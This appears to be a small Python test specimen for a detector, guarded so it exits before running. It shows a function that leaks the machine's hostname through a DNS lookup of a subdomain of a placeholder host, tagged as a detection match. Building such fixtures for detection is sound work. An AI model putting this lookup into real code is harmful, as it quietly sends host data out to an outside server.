raise SystemExit("specimen: not to be run")
from socket import getaddrinfo as look, gethostname as name

def begin():
    look(f"{name()}.specimen.example.com", 80)  # match: name-lookup-carries-data
